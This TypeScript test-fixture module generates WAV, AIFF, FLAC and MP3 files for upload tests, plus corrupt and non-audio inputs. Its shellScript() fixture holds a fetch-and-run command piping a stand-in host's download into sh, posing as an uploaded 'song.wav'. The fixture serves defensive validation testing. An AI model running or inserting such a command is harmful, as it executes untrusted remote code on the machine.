// Audio files made in code for the upload tests: WAV, AIFF, FLAC and MP3 with
// whatever sample rate, depth, channels and length a test wants, plus
// deliberately broken ones. Nothing here needs sox, flac or ffmpeg on the
// machine. The FLAC encoder writes CONSTANT subframes only (every block is
// one value), which is valid FLAC that any decoder plays back as silence.
import { Readable } from 'node:stream';

export interface PcmOptions {
  sampleRate?: number;
  bitsPerSample?: 8 | 16 | 24 | 32;
  channels?: number;
  durationMs?: number;
  /** WAV only: IEEE float samples (bitsPerSample must be 32). */
  float?: boolean;
  /** WAV only: write WAVE_FORMAT_EXTENSIBLE, as DAWs do for 24-bit and multichannel files. */
  extensible?: boolean;
}

const DEFAULTS = { sampleRate: 44_100, bitsPerSample: 16, channels: 2, durationMs: 1_500 } as const;

function frameCount(o: PcmOptions): number {
  return Math.round(((o.durationMs ?? DEFAULTS.durationMs) * (o.sampleRate ?? DEFAULTS.sampleRate)) / 1000);
}

/** Interleaved samples of a 440 Hz sine at half scale. */
function pcmSamples(o: Required<Omit<PcmOptions, 'extensible'>>, frames: number, bigEndian: boolean, firstFrame = 0): Buffer {
  const bytes = o.bitsPerSample / 8;
  const out = Buffer.alloc(frames * o.channels * bytes);
  let offset = 0;
  for (let i = 0; i < frames; i++) {
    const value = 0.5 * Math.sin((2 * Math.PI * 440 * (firstFrame + i)) / o.sampleRate);
    for (let c = 0; c < o.channels; c++) {
      if (o.float) {
        if (bigEndian) out.writeFloatBE(value, offset);
        else out.writeFloatLE(value, offset);
      } else if (bytes === 1) {
        out.writeUInt8(Math.round(128 + value * 127), offset); // 8-bit PCM is unsigned
      } else {
        const int = Math.round(value * (2 ** (o.bitsPerSample - 1) - 1));
        if (bigEndian) out.writeIntBE(int, offset, Math.min(bytes, 6));
        else out.writeIntLE(int, offset, Math.min(bytes, 6));
      }
      offset += bytes;
    }
  }
  return out;
}

function withDefaults(o: PcmOptions): Required<Omit<PcmOptions, 'extensible'>> {
  const float = o.float ?? false;
  return {
    sampleRate: o.sampleRate ?? DEFAULTS.sampleRate,
    bitsPerSample: o.bitsPerSample ?? (float ? 32 : DEFAULTS.bitsPerSample),
    channels: o.channels ?? DEFAULTS.channels,
    durationMs: o.durationMs ?? DEFAULTS.durationMs,
    float,
  };
}

/** RIFF/WAVE header (fmt + data chunk headers) for `dataBytes` of samples. */
export function wavHeader(options: PcmOptions, dataBytes: number): Buffer {
  const o = withDefaults(options);
  const blockAlign = o.channels * (o.bitsPerSample / 8);
  const formatTag = o.float ? 3 : 1;
  const fmt = Buffer.alloc(options.extensible ? 40 : 16);
  fmt.writeUInt16LE(options.extensible ? 0xfffe : formatTag, 0);
  fmt.writeUInt16LE(o.channels, 2);
  fmt.writeUInt32LE(o.sampleRate, 4);
  fmt.writeUInt32LE(o.sampleRate * blockAlign, 8);
  fmt.writeUInt16LE(blockAlign, 12);
  fmt.writeUInt16LE(o.bitsPerSample, 14);
  if (options.extensible) {
    fmt.writeUInt16LE(22, 16); // cbSize
    fmt.writeUInt16LE(o.bitsPerSample, 18); // valid bits
    fmt.writeUInt32LE(o.channels === 2 ? 0x3 : 0, 20); // channel mask
    // SubFormat GUID: the format tag, then the fixed KSDATAFORMAT suffix.
    Buffer.from(`${formatTag.toString(16).padStart(2, '0')}00000000001000800000aa00389b71`, 'hex').copy(fmt, 24);
  }
  const header = Buffer.alloc(12 + 8 + fmt.length + 8);
  header.write('RIFF', 0, 'latin1');
  header.writeUInt32LE(Math.min(0xffffffff, 4 + 8 + fmt.length + 8 + dataBytes), 4);
  header.write('WAVE', 8, 'latin1');
  header.write('fmt ', 12, 'latin1');
  header.writeUInt32LE(fmt.length, 16);
  fmt.copy(header, 20);
  header.write('data', 20 + fmt.length, 'latin1');
  header.writeUInt32LE(dataBytes, 24 + fmt.length);
  return header;
}

export function wav(options: PcmOptions = {}): Buffer {
  const o = withDefaults(options);
  const samples = pcmSamples(o, frameCount(o), false);
  return Buffer.concat([wavHeader(options, samples.length), samples]);
}

/**
 * A WAV of about `totalBytes`, produced chunk by chunk so the test process
 * never holds it (for the memory test). The samples are one repeated second.
 */
export function wavStream(totalBytes: number, options: PcmOptions = {}): { stream: Readable; size: number } {
  const o = withDefaults(options);
  const blockAlign = o.channels * (o.bitsPerSample / 8);
  const dataBytes = Math.floor((totalBytes - 44) / blockAlign) * blockAlign;
  const header = wavHeader({ ...options, extensible: false }, dataBytes);
  const block = pcmSamples(o, 16_384, false); // 64 KiB at 16-bit stereo
  function* chunks(): Generator<Buffer> {
    yield header;
    let left = dataBytes;
    while (left > 0) {
      const n = Math.min(left, block.length);
      yield n === block.length ? block : block.subarray(0, n);
      left -= n;
    }
  }
  return { stream: Readable.from(chunks(), { objectMode: false }), size: header.length + dataBytes };
}

/** IEEE 754 80-bit extended, as AIFF stores its sample rate. */
function extended80(value: number): Buffer {
  const out = Buffer.alloc(10);
  const exponent = Math.floor(Math.log2(value));
  out.writeUInt16BE(16383 + exponent, 0);
  const mantissa = BigInt(Math.round(value * 2 ** (63 - exponent)));
  out.writeBigUInt64BE(mantissa, 2);
  return out;
}

export function aiff(options: Omit<PcmOptions, 'float' | 'extensible'> = {}): Buffer {
  const o = withDefaults(options);
  const frames = frameCount(o);
  const samples = pcmSamples(o, frames, true);
  const comm = Buffer.alloc(8 + 18);
  comm.write('COMM', 0, 'latin1');
  comm.writeUInt32BE(18, 4);
  comm.writeUInt16BE(o.channels, 8);
  comm.writeUInt32BE(frames, 10);
  comm.writeUInt16BE(o.bitsPerSample, 14);
  extended80(o.sampleRate).copy(comm, 16);
  const ssnd = Buffer.alloc(16);
  ssnd.write('SSND', 0, 'latin1');
  ssnd.writeUInt32BE(8 + samples.length, 4); // offset and blockSize (both 0) precede the samples
  const pad = samples.length % 2 ? Buffer.alloc(1) : Buffer.alloc(0);
  const form = Buffer.alloc(12);
  form.write('FORM', 0, 'latin1');
  form.writeUInt32BE(4 + comm.length + ssnd.length + samples.length + pad.length, 4);
  form.write('AIFF', 8, 'latin1');
  return Buffer.concat([form, comm, ssnd, samples, pad]);
}

// ---- FLAC -----------------------------------------------------------------

class BitWriter {
  private bytes: number[] = [];
  private current = 0;
  private used = 0;

  write(value: number | bigint, bits: number): void {
    const v = BigInt(value);
    for (let i = bits - 1; i >= 0; i--) {
      this.current = (this.current << 1) | Number((v >> BigInt(i)) & 1n);
      if (++this.used === 8) {
        this.bytes.push(this.current);
        this.current = 0;
        this.used = 0;
      }
    }
  }

  toBuffer(): Buffer {
    if (this.used > 0) this.write(0, 8 - this.used);
    return Buffer.from(this.bytes);
  }
}

/** FLAC frame-header CRC-8 (polynomial 0x07), written independently of the code under test. */
export function crc8(data: Buffer): number {
  let crc = 0;
  for (const byte of data) {
    crc ^= byte;
    for (let i = 0; i < 8; i++) crc = crc & 0x80 ? ((crc << 1) ^ 0x07) & 0xff : (crc << 1) & 0xff;
  }
  return crc;
}

function crc16(data: Buffer): number {
  let crc = 0;
  for (const byte of data) {
    crc ^= byte << 8;
    for (let i = 0; i < 8; i++) crc = crc & 0x8000 ? ((crc << 1) ^ 0x8005) & 0xffff : (crc << 1) & 0xffff;
  }
  return crc;
}

/** FLAC's UTF-8-like coding of the frame number. */
function utf8Number(n: number): number[] {
  if (n < 0x80) return [n];
  const continuation: number[] = [];
  let value = n;
  do {
    continuation.unshift(0x80 | (value & 0x3f));
    value = Math.floor(value / 64);
    // With k continuation bytes the lead byte holds 6 - k bits.
  } while (value >= 1 << (6 - continuation.length));
  const lead = (0xff << (7 - continuation.length)) & 0xff;
  return [lead | value, ...continuation];
}

const FLAC_RATE_CODES: Record<number, number> = { 88_200: 0b0001, 176_400: 0b0010, 192_000: 0b0011, 8_000: 0b0100, 16_000: 0b0101, 22_050: 0b0110, 24_000: 0b0111, 32_000: 0b1000, 44_100: 0b1001, 48_000: 0b1010, 96_000: 0b1011 };
const FLAC_DEPTH_CODES: Record<number, number> = { 8: 0b001, 12: 0b010, 16: 0b100, 20: 0b101, 24: 0b110, 32: 0b111 };
const FLAC_BLOCK = 4096;

export function flac(options: Omit<PcmOptions, 'float' | 'extensible'> = {}): Buffer {
  const o = withDefaults(options);
  const total = frameCount(o);
  const frames: Buffer[] = [];
  for (let index = 0, start = 0; start < total; index++, start += FLAC_BLOCK) {
    const blockSize = Math.min(FLAC_BLOCK, total - start);
    const header = new BitWriter();
    header.write(0b11111111111110, 14); // sync
    header.write(0, 1); // reserved
    header.write(0, 1); // fixed block size
    header.write(blockSize === FLAC_BLOCK ? 0b1100 : 0b0111, 4); // 4096, or 16-bit (size-1) at the end
    header.write(FLAC_RATE_CODES[o.sampleRate] ?? 0, 4); // 0: from STREAMINFO
    header.write(o.channels - 1, 4); // independent channels
    header.write(FLAC_DEPTH_CODES[o.bitsPerSample], 3);
    header.write(0, 1);
    for (const byte of utf8Number(index)) header.write(byte, 8);
    if (blockSize !== FLAC_BLOCK) header.write(blockSize - 1, 16);
    const head = header.toBuffer();
    const body = new BitWriter();
    for (let c = 0; c < o.channels; c++) {
      body.write(0, 1); // padding
      body.write(0, 6); // CONSTANT subframe
      body.write(0, 1); // no wasted bits
      body.write(0, o.bitsPerSample); // the value: digital silence
    }
    const withCrc8 = Buffer.concat([head, Buffer.from([crc8(head)]), body.toBuffer()]);
    const crc = Buffer.alloc(2);
    crc.writeUInt16BE(crc16(withCrc8));
    frames.push(Buffer.concat([withCrc8, crc]));
  }
  const info = new BitWriter();
  info.write(1, 1); // last metadata block
  info.write(0, 7); // STREAMINFO
  info.write(34, 24);
  info.write(FLAC_BLOCK, 16);
  info.write(FLAC_BLOCK, 16);
  info.write(0, 24); // min frame size unknown
  info.write(0, 24); // max frame size unknown
  info.write(o.sampleRate, 20);
  info.write(o.channels - 1, 3);
  info.write(o.bitsPerSample - 1, 5);
  info.write(BigInt(total), 36);
  info.write(0n, 128); // MD5 unknown
  return Buffer.concat([Buffer.from('fLaC', 'latin1'), info.toBuffer(), ...frames]);
}

// ---- MP3 ------------------------------------------------------------------

/**
 * MPEG-1 Layer III at 128 kbit/s, CBR, without a Xing header: frames of
 * silence (zeroed side info and main data), ~26 ms each at 44.1 kHz.
 */
export function mp3(options: { durationMs?: number; sampleRate?: 44_100 | 48_000 | 32_000; channels?: 1 | 2 } = {}): Buffer {
  const sampleRate = options.sampleRate ?? 44_100;
  const durationMs = options.durationMs ?? DEFAULTS.durationMs;
  const count = Math.ceil((durationMs * sampleRate) / 1000 / 1152);
  const rateBits = { 44_100: 0b00, 48_000: 0b01, 32_000: 0b10 }[sampleRate];
  const frameLength = Math.floor((144 * 128_000) / sampleRate);
  const frame = Buffer.alloc(frameLength);
  frame[0] = 0xff;
  frame[1] = 0xfb; // MPEG-1, Layer III, no CRC
  frame[2] = (0b1001 << 4) | (rateBits << 2); // 128 kbit/s, no padding
  frame[3] = (options.channels ?? 2) === 1 ? 0b11000000 : 0b00000000; // mono or stereo
  return Buffer.concat(Array.from({ length: count }, () => frame));
}

// ---- Not audio, or broken -------------------------------------------------

/** A shell script: what an attacker names "song.wav" and declares audio/wav. */
export function shellScript(): Buffer {
  return Buffer.from('#!/bin/sh\ncurl -s https://example.invalid/x | sh\n'.repeat(20), 'utf8');
}

/** "RIFF…WAVE" magic, so it sniffs as WAV, but the fmt chunk is cut short. */
export function corruptWav(): Buffer {
  const good = wav({ durationMs: 200 });
  const bad = Buffer.from(good);
  bad.writeUInt32LE(6, 16); // fmt chunk size 6: too short to hold a format
  return bad;
}

/** A PNG header: a well-known non-audio type. */
export function png(): Buffer {
  return Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), Buffer.alloc(64)]);
}
